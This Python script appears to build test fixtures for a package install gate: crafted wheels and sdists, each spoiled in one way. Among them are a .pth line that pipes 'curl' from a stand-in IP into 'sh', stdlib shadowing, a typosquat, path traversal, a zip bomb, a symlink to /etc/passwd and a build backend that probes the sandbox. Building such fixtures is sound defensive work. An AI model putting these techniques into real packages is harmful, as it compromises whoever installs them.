#!/usr/bin/env python3
"""Writes the install gate's crafted packages into OUT (stdlib only, deterministic bytes).

Each is what an index could serve, built the way packaging tools build them (zipfile with a
correct RECORD, tarfile for sdists), then spoiled in one way:

  cordon_clean-1.0-py3-none-any.whl      nothing to find
  cordon_app-1.0-py3-none-any.whl        clean, and Requires-Dist: cordon-clean>=1.0 (for a resolver)
  cordon_dep-1.0-py3-none-any.whl        clean, and Requires-Dist: cordon-yanked==1.0 (a yanked dependency)
  cordon_pth-1.0-py3-none-any.whl        a .pth whose import line runs os.system (pth-code, high)
  cordon_startup-1.0-py3-none-any.whl    a top-level sitecustomize.py (startup-code, high)
  cordon_shadow-1.0-py3-none-any.whl     a top-level json package and a _sysconfigdata module (the standard
                                         library's names): clean to the scanner
  cordon_many-1.0-py3-none-any.whl       1,001 top-level modules, then a json package
  cordon_liar-1.0-py3-none-any.whl       METADATA says requests 2.32.3
  cordon_tampered-1.0-py3-none-any.whl   a module changed after RECORD was written
  cordon_extra-1.0-py3-none-any.whl      a member RECORD does not list
  cordon_twice-1.0-py3-none-any.whl      two zip entries of one name (installers differ on which wins)
  cordon_bomb-1.0-py3-none-any.whl       a 300 MiB member of zeros (over the 256 MiB entry limit)
  cordon_escape-1.0-py3-none-any.whl     a member named ../../escape.py
  reqeusts-1.0-py3-none-any.whl          a typosquat of requests, clean otherwise
  requests-2.30.0-py3-none-any.whl       a clean body under a name and version with PYSEC-2023-74
  cordon_fresh-1.0, cordon_fresh-0.9, cordon_yanked-1.0 (wheels)   clean: make_index.py gives their
                                         pages a young upload-time, and a yanked flag
  cordon_data-1.0-py3-none-any.whl       a .data/purelib module and a .data/scripts script
  cordon_dirmode-1.0-py3-none-any.whl    a member whose attributes say directory, its name a file's (pip writes it)
  cordon_prefixed-1.0-py3-none-any.whl   bytes before the first member (a second zip hidden in front)
  cordon_method-1.0-py3-none-any.whl     a local header whose method disagrees with the central directory
  cordon_pyc-1.0-py3-none-any.whl        a sourceless module (cordon_pyc/__init__.pyc, no .py)
  cordon_binpth-1.0-py3-none-any.whl     a .pth with a NUL byte before its import line
  cordon_utf8-1.0-py3-none-any.whl       a member named café.py (UTF-8 flag): nothing wrong
  cordon_link-1.0.tar.gz                 an sdist with a symlink member
  cordon_sdist-1.0.tar.gz                a clean sdist
  cordon_built-1.0.tar.gz                a clean sdist with an in-tree PEP 517 backend (no build requirements)
  cordon_pthbuild-1.0.tar.gz             the same, whose built wheel has a .pth that runs code
  cordon_evil-1.0.tar.gz                 the same shape, whose build tries to read /root, reach the index and
                                         198.51.100.20, write the store and /usr, says how each went, and fails

usage: make_packages.py OUT
"""
import base64, hashlib, io, os, sys, tarfile, zipfile

out = sys.argv[1]
os.makedirs(out, exist_ok=True)
STAMP = (2024, 1, 1, 0, 0, 0)


def digest(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def wheel(name, version, files, meta_name=None, meta_version=None, spoil=None, extra=(), raw=(), requires=()):
    """files: {path: bytes}; spoil(files) runs after RECORD is computed; extra: members left out of
    RECORD; raw: (ZipInfo or name, bytes) written as is, last."""
    dist = f"{name}-{version}.dist-info"
    files = dict(files)
    files[f"{dist}/METADATA"] = (f"Metadata-Version: 2.1\nName: {meta_name or name.replace('_', '-')}\n"
                                 f"Version: {meta_version or version}\nSummary: a crafted package\n"
                                 + "".join(f"Requires-Dist: {r}\n" for r in requires) + "\n").encode()
    files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: make_packages\nRoot-Is-Purelib: true\nTag: py3-none-any\n\n"
    record = "".join(f"{p},{digest(b)},{len(b)}\n" for p, b in files.items()) + f"{dist}/RECORD,,\n"
    if spoil:
        spoil(files)
    files[f"{dist}/RECORD"] = record.encode()
    path = os.path.join(out, f"{name}-{version}-py3-none-any.whl")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for p, b in list(files.items()) + list(extra):
            z.writestr(zipfile.ZipInfo(p, STAMP), b, zipfile.ZIP_DEFLATED)
        for info, b in raw:
            z.writestr(info if isinstance(info, zipfile.ZipInfo) else zipfile.ZipInfo(info, STAMP), b, zipfile.ZIP_DEFLATED)
    return path


def sdist(name, version, files, links=()):
    top = f"{name}-{version}"
    path = os.path.join(out, f"{top}.tar.gz")
    files = dict(files)
    files["PKG-INFO"] = f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n\n".encode()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as t:
        for p, b in files.items():
            info = tarfile.TarInfo(f"{top}/{p}")
            info.size, info.mtime, info.mode = len(b), 1704067200, 0o644
            t.addfile(info, io.BytesIO(b))
        for p, target in links:
            info = tarfile.TarInfo(f"{top}/{p}")
            info.type, info.linkname, info.mtime = tarfile.SYMTYPE, target, 1704067200
            t.addfile(info)
    import gzip
    with open(path, "wb") as f:
        f.write(gzip.compress(buffer.getvalue(), mtime=0))
    return path


module = b'"""A clean module."""\n\ndef answer():\n    return 42\n'
wheel("cordon_clean", "1.0", {"cordon_clean/__init__.py": module})
wheel("cordon_app", "1.0", {"cordon_app/__init__.py": b"from cordon_clean import answer\n"}, requires=["cordon-clean>=1.0"])
wheel("cordon_dep", "1.0", {"cordon_dep/__init__.py": module}, requires=["cordon-yanked==1.0"])
wheel("cordon_shadow", "1.0", {"cordon_shadow/__init__.py": module, "json/__init__.py": b"HIJACKED = True\n",
                                "_sysconfigdata__x86_64-linux-gnu.py": b"build_time_vars = {}\n"})
wheel("cordon_many", "1.0", dict([("a%04d.py" % i, b"") for i in range(1001)] + [("json/__init__.py", b"HIJACKED = True\n")]))
wheel("cordon_startup", "1.0", {"cordon_startup/__init__.py": module,
                                "sitecustomize.py": b"import os\nprint('ran at interpreter start')\n"})
wheel("cordon_pth", "1.0", {"cordon_pth/__init__.py": module,
                            "cordon_pth.pth": b'import os; os.system("curl -s http://198.51.100.21/x | sh")\n'})
wheel("cordon_liar", "1.0", {"cordon_liar/__init__.py": module}, meta_name="requests", meta_version="2.32.3")


def tamper(files):
    files["cordon_tampered/__init__.py"] = module + b"import os\n"


wheel("cordon_tampered", "1.0", {"cordon_tampered/__init__.py": module}, spoil=tamper)
wheel("cordon_extra", "1.0", {"cordon_extra/__init__.py": module}, extra=[("cordon_extra/hidden.py", b"x = 1\n")])
wheel("cordon_twice", "1.0", {"cordon_twice/__init__.py": module}, raw=[("cordon_twice/__init__.py", b"import os\nos.system('id')\n")])
wheel("cordon_bomb", "1.0", {"cordon_bomb/__init__.py": module}, raw=[("cordon_bomb/zeros.bin", bytes(300 << 20))])
wheel("cordon_escape", "1.0", {"cordon_escape/__init__.py": module}, raw=[("../../escape.py", b"x = 1\n")])
wheel("reqeusts", "1.0", {"reqeusts/__init__.py": module})
wheel("requests", "2.30.0", {"requests/__init__.py": module})
wheel("cordon_data", "1.0", {"cordon_data/__init__.py": module, "cordon_data-1.0.data/purelib/cordon_data_extra.py": b"EXTRA = 1\n",
                             "cordon_data-1.0.data/scripts/cordon-data": b"#!/bin/sh\necho hi\n"})
wheel("cordon_fresh", "1.0", {"cordon_fresh/__init__.py": module})
wheel("cordon_fresh", "0.9", {"cordon_fresh/__init__.py": module})
wheel("cordon_yanked", "1.0", {"cordon_yanked/__init__.py": module})
dirmode = zipfile.ZipInfo("cordon_dirmode/evil.py", STAMP)
dirmode.create_system = 3
dirmode.external_attr = (0o040755 << 16) | 0x10
wheel("cordon_dirmode", "1.0", {"cordon_dirmode/__init__.py": module}, raw=[(dirmode, b"import os\nos.system('id')\n")])
hidden = wheel("cordon_prefixed", "1.0", {"cordon_prefixed/__init__.py": module})
with open(hidden, "rb") as f:
    real = f.read()
with open(hidden, "wb") as f:
    f.write(b"PK\x03\x04" + b"\0" * 60 + real)
method = wheel("cordon_method", "1.0", {"cordon_method/__init__.py": module})
with open(method, "r+b") as f:
    data = bytearray(f.read())
    at = data.index(b"PK\x03\x04")
    data[at + 8:at + 10] = (0).to_bytes(2, "little")   # the first local header says stored; the directory, deflated
    f.seek(0)
    f.write(data)
wheel("cordon_pyc", "1.0", {"cordon_pyc/__init__.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40)})
wheel("cordon_binpth", "1.0", {"cordon_binpth/__init__.py": module, "cordon_binpth.pth": b"#\0\nimport os;os.system('id')\n"})
wheel("cordon_utf8", "1.0", {"cordon_utf8/__init__.py": module, "cordon_utf8/caf\u00e9.py": b"x = 1\n"})
sdist("cordon_link", "1.0", {"setup.py": b"from setuptools import setup\nsetup()\n"}, links=[("etc-passwd", "/etc/passwd")])
sdist("cordon_sdist", "1.0", {"setup.py": b"from setuptools import setup\nsetup(name='cordon-sdist', version='1.0')\n",
                              "cordon_sdist/__init__.py": module})
print(out)


# In-tree PEP 517 backends: what `pip wheel --no-build-isolation` runs in the build sandbox.
BACKEND = b'''"""An in-tree build backend: writes the wheel by hand (stdlib only)."""
import base64, hashlib, os, zipfile

NAME, VERSION = "cordon_built", "1.0"
EXTRA = {}


def _digest(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    dist = f"{NAME}-{VERSION}.dist-info"
    here = os.path.dirname(os.path.abspath(__file__))
    files = {f"{NAME}/__init__.py": open(os.path.join(here, NAME, "__init__.py"), "rb").read(),
             f"{dist}/METADATA": f"Metadata-Version: 2.1\\nName: {NAME.replace('_', '-')}\\nVersion: {VERSION}\\n\\n".encode(),
             f"{dist}/WHEEL": b"Wheel-Version: 1.0\\nGenerator: backend\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n\\n"}
    files.update(EXTRA)
    record = "".join(f"{p},{_digest(b)},{len(b)}\\n" for p, b in files.items()) + f"{dist}/RECORD,,\\n"
    files[f"{dist}/RECORD"] = record.encode()
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for p, b in files.items():
            z.writestr(p, b)
    return name
'''
PYPROJECT = b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
sdist("cordon_built", "1.0", {"pyproject.toml": PYPROJECT, "backend.py": BACKEND, "cordon_built/__init__.py": module})
# The same, its built wheel carrying a .pth with code: the sdist is clean, what it builds is not.
PTH_BACKEND = BACKEND.replace(b'"cordon_built", "1.0"\nEXTRA = {}', b'"cordon_pthbuild", "1.0"\nEXTRA = {"cordon_pthbuild.pth": b"import os; os.system(\'true\')\\n"}')
assert PTH_BACKEND != BACKEND
sdist("cordon_pthbuild", "1.0", {"pyproject.toml": PYPROJECT, "backend.py": PTH_BACKEND, "cordon_pthbuild/__init__.py": module})

EVIL = b'''"""A build backend that attacks the build sandbox, says how each attempt went, and fails."""
import os, socket, sys, urllib.request


def _attempt(what, action):
    try:
        action()
        print(f"attack: {what}: succeeded", file=sys.stderr)
    except BaseException as e:
        print(f"attack: {what}: refused: {type(e).__name__}: {e}", file=sys.stderr)


def _write(path):
    with open(path, "w") as f:
        f.write("cordon-evil was here")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _attempt("read /root", lambda: os.listdir("/root"))
    _attempt("reach http://index.test/", lambda: urllib.request.urlopen("http://index.test/simple/", timeout=5))
    _attempt("reach 198.51.100.20:80", lambda: socket.create_connection(("198.51.100.20", 80), timeout=5))
    _attempt("write the store", lambda: _write("/var/lib/cordon/store/blobs/cordon-evil"))
    _attempt("write /usr", lambda: _write("/usr/lib/python3/dist-packages/cordon_evil_was_here.py"))
    raise SystemExit("cordon-evil: giving up")
'''
sdist("cordon_evil", "1.0", {"pyproject.toml": PYPROJECT, "backend.py": EVIL, "cordon_evil/__init__.py": module})
